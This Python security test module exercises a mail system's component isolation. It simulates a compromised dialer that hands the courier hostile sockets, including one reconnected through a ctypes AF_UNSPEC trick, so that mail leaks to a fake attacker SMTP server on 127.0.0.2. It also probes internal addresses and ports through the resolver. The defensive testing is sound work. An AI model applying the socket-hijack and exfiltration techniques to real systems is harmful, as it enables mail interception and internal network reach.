"""dialer is asked for what it must not connect to, and dialer is compromised: what those who use its sockets notice."""

import asyncio
import ctypes
import os
import socket
import time
from collections.abc import Callable, Mapping
from dataclasses import replace
from typing import Any

from bulkhead.boundary.edge import Channel, Handed
from bulkhead.boundary.messages import to_queue as q
from bulkhead.boundary.messages.to_dialer import Dialed, DialTcp, DialUdp
from bulkhead.boundary.messages.to_resolver import FindMailHosts, MailHost, MailHosts, MailHostsVerdict
from bulkhead.courier import attempt as courier_attempt
from bulkhead.courier.attempt import Attempt, Means
from bulkhead.courier.connection import client_context
from bulkhead.courier.links import HostSlots, Links
from bulkhead.courier.session import Manner
from bulkhead.dialer.handle import HANDLERS as DIALER_HANDLERS
from bulkhead.dialer.handle import Dialer
from bulkhead.dialer.routes import Routes
from bulkhead.drill.bare_cell import BareCell, letter, weakened
from bulkhead.drill.in_bare_cell import Finding, SemanticAct, probes_of
from bulkhead.drill.semantic import Column
from bulkhead.drill.semantic_outbound import INSIDE, Canary, queued
from bulkhead.errors import Error
from bulkhead.gate.delivery import Sealer
from bulkhead.identifiers import parse_address, parse_domain

ASKED = "127.0.0.1"
ELSEWHERE = "127.0.0.2"  # the attacker's
_REPLIES = {b"DATA": b"354 go on\r\n", b"QUIT": b"221 bye\r\n"}
_UNSPECIFIED = bytes(16)  # a sockaddr of AF_UNSPEC: connect(2) with it takes a connection back
_SECONDS = 5.0


class Thief:
    """The attacker's mail server: on a port of its own, and on any socket that it is given. `read`: all it was told."""

    def __init__(self) -> None:
        self.read = b""
        self._server: asyncio.Server | None = None
        self._tasks: set[asyncio.Task[None]] = set()

    async def open(self, address: str, port: int = 0) -> int:
        """Listen; the port."""
        self._server = await asyncio.start_server(self._serve, address, port)
        return int(self._server.sockets[0].getsockname()[1])

    async def take(self, sock: socket.socket) -> None:
        """Serve a socket that is connected already."""
        reader, writer = await asyncio.open_connection(sock=sock)
        task = asyncio.create_task(self._serve(reader, writer))
        self._tasks.add(task)
        task.add_done_callback(self._tasks.discard)

    async def _serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.write(b"220 thief.example\r\n")
        in_text = False
        try:
            while line := await reader.readline():
                self.read += line
                if in_text and line != b".\r\n":
                    continue
                in_text = line[:4].upper() == b"DATA"
                writer.write(_REPLIES.get(line[:4].upper(), b"250 thief.example\r\n"))
        except (OSError, ValueError):
            pass
        finally:
            writer.close()

    def close(self) -> None:
        """No more."""
        if self._server is not None:
            self._server.close()
        for task in self._tasks:
            task.cancel()


def _connected(address: str, port: int, kind: socket.SocketKind = socket.SOCK_STREAM) -> socket.socket:
    sock = socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, kind)
    sock.connect((address, port))
    return sock


def _lead_astray(sock: socket.socket, place: tuple[str, int]) -> None:
    """Connect a socket anew that somebody else has meanwhile: it is one socket, whoever holds a descriptor of it."""
    ctypes.CDLL(None).connect(sock.fileno(), _UNSPECIFIED, len(_UNSPECIFIED))
    sock.setblocking(True)
    sock.connect(place)
    sock.setblocking(False)
    sock.close()


async def hand_over_another(cell: BareCell) -> Finding:
    """Honest courier asks for a mail server and gets another socket: whoever is at its other end reads the mail."""
    return await _hand_over(cell, astray=False)


async def lead_astray(cell: BareCell) -> Finding:
    """The socket that courier asked for, connected anew by dialer, which kept it, once courier has it."""
    return await _hand_over(cell, astray=True)


async def _hand_over(cell: BareCell, *, astray: bool) -> Finding:
    thief = Thief()
    listener = socket.create_server((ASKED, 0))  # the server that is asked for: it is slow to greet
    port: int = listener.getsockname()[1]
    stolen = await thief.open(ELSEWHERE)

    async def pair() -> socket.socket:
        ours, theirs = socket.socketpair()
        await thief.take(ours)
        return theirs

    async def elsewhere() -> socket.socket:
        return _connected(ELSEWHERE, stolen)

    async def mapped() -> socket.socket:
        return _connected(f"::ffff:{ELSEWHERE}", stolen)

    async def same_port() -> socket.socket:
        other = Thief()
        others.append(other)
        await other.open(ELSEWHERE, port)
        return _connected(ELSEWHERE, port)

    async def datagrams() -> socket.socket:
        return _connected(ASKED, port, socket.SOCK_DGRAM)

    async def not_connected() -> socket.socket:
        return socket.socket()

    async def led_astray() -> socket.socket:
        sock = _connected(ASKED, port)
        asyncio.get_running_loop().call_later(0.1, _lead_astray, sock.dup(), (ELSEWHERE, stolen))
        return sock

    others: list[Thief] = [thief]
    made: list[Callable[[], Any]] = [pair, elsewhere, mapped, same_port, datagrams, not_connected]
    made = [led_astray] if astray else made
    hostile: list[Callable[[], Any]] = []

    async def dial(_: object, __: Channel, request: DialTcp, ___: object) -> Handed:
        return Handed(Dialed(ASKED), await hostile[0]())

    def find(_: object, __: Channel, request: FindMailHosts, ___: object) -> MailHosts:
        return MailHosts(MailHostsVerdict.FOUND, (MailHost(10, f"mx.{request.domain}", (ASKED,)),), 60)

    await cell.replace("dialer", None, {DialTcp: dial})
    resolving: Mapping[Any, Any] = {FindMailHosts: find}
    await cell.replace("resolver", None, resolving)
    courier = cell.exchanges["courier"]

    async def steals(make: Callable[[], Any]) -> bool:
        hostile[:] = [make]
        token = os.urandom(16).hex()
        await queued(cell, f"a@d{token}.example", text=letter(token))
        means = Means(
            courier, Sealer(cell.tenant, cell.settings["pinned"]["binding_key"]),
            Manner(parse_domain(f"mx.{cell.domain}"), 0.3, client_context()), port, 0.3, asyncio.Semaphore(8),
            HostSlots(4), Links(),
        )  # fmt: skip
        (work,) = (await courier.to("queue").call(q.TakeWork(1))).items
        attempt = Attempt(means, work, parse_address(work.reverse_path))
        await asyncio.wait_for(attempt.run(int(time.time())), _SECONDS)
        means.links.close()
        await asyncio.sleep(0.02)
        return any(token.encode() in other.read for other in others)

    reached = [make for make in made if await steals(make)]
    with weakened(courier_attempt, "require_connected_to", lambda *_: None):  # courier asks the kernel for nothing
        control = await steals(elsewhere) and await steals(pair)
    for other in others:
        other.close()
    listener.close()
    names = ", ".join(make.__name__.replace("_", " ") for make in reached)
    return Finding(len(reached), len(made), control, f"taken by courier: {names or 'none'}")


async def resolver_reaches_inside(cell: BareCell) -> Finding:
    """resolver has dialer connect to addresses inside, by TCP and UDP, and to ports of other services."""
    canary = Canary()
    dialer = Dialer(replace(Routes.configured(25, (), ("192.0.2.53",)), dns_port=canary.port))
    await cell.replace("dialer", dialer, DIALER_HANDLERS)
    resolver = cell.worker("resolver")
    dials = 0

    async def dialled(request: DialTcp | DialUdp) -> bool:
        nonlocal dials
        dials += 1
        try:
            _, sock = await resolver.to("dialer").dial(request, timeout=2.0)
        except Error:
            return False
        sock.close()
        return True

    reached = 0
    for address in INSIDE:
        reached += await dialled(DialTcp(address, canary.port, 300))
        reached += await dialled(DialUdp(address, canary.port))
    for port in (25, 80, 143, 443, 993, 8080):  # the name server that is configured, but other services of it
        reached += await dialled(DialTcp("192.0.2.53", port, 300))
        reached += await dialled(DialUdp("192.0.2.53", port))
    reached += canary.reached()
    tried = dials
    dialer.routes = replace(dialer.routes, nameservers=Routes.configured(25, (), ("127.0.0.1",)).nameservers)
    control = await dialled(DialTcp("127.0.0.1", canary.port, 300)) and canary.reached() == 1
    canary.sock.close()
    return Finding(reached, tried, control)


ACTS = (
    SemanticAct(
        "dialer-hands-over-another", "dialer", (Column.MAIL_IN_TRANSIT,),
        "six other sockets for honest courier: a pair, other addresses and ports, datagrams, one not connected",
        "courier says a message to the attacker", "courier does not ask the kernel where a socket leads",
        hand_over_another,
    ),
    SemanticAct(
        "dialer-leads-astray", "dialer", (Column.MAIL_IN_TRANSIT,),
        "the right socket, connected anew by dialer once courier has it", "courier says a message to the attacker",
        "courier does not ask the kernel where a socket leads", lead_astray, known=1,
        residue="a dialer that keeps the socket can connect it anew after courier looked; TLS to others authenticates "
        "nobody yet (no DANE, no MTA-STS)",
    ),
    SemanticAct(
        "resolver-reaches-inside", "resolver", (Column.NETWORK,),
        "32 addresses inside by TCP and UDP, and six other ports of the name server", "a connection or a socket",
        "the address is a configured name server", resolver_reaches_inside,
    ),
)  # fmt: skip

PROBES = probes_of(ACTS)
